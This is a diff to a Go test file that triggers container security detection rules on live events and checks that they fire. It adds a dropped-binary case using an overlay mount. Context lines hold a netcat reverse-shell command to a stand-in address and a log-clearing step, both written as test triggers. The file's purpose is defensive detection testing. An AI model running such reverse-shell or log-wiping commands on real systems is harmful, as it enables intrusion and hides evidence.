@@ -174,6 +174,12 @@ func TestStableRulesOnLiveEvents(t *testing.T) {
 		{"Netcat Remote Code Execution in Container", "nc", func() {
 			inContainer("cp /bin/true ./nc && ./nc -e /bin/sh 192.0.2.1 4444")
 		}},
+		{"Drop and execute new binary in container", "dropped-true", func() {
+			// an overlay mount stands for the container's root: a binary written through it
+			// lands in the upper layer
+			inContainer("mkdir -p lo up wk mnt && cp /bin/true lo/ && mount -t overlay overlay -o lowerdir=lo,upperdir=up,workdir=wk mnt && " +
+				"cp /bin/true mnt/dropped-true && ./mnt/true && ./mnt/dropped-true; umount mnt")
+		}},
 		{"Clear Log Activities", "python3", func() {
 			py(`open("/var/log/lanner-test.log","w").close()`)
 			_ = os.Remove("/var/log/lanner-test.log")
@@ -201,6 +207,12 @@ func TestStableRulesOnLiveEvents(t *testing.T) {
 			t.Errorf("rule %q did not fire for %s (hits: %v)", c.rule, c.proc, hs)
 		} else {
 			t.Logf("rule %q fired: %v", c.rule, hs[0])
+		}
+	}
+	// The image's own binary (lower layer) is not a dropped one.
+	for _, h := range fired["Drop and execute new binary in container"] {
+		if h.proc == "true" {
+			t.Errorf("lower-layer binary taken for a dropped one: %v", h)
 		}
 	}
 	// Everything else here is benign (bash, cp, rm, python3 on the host): nothing else may fire.
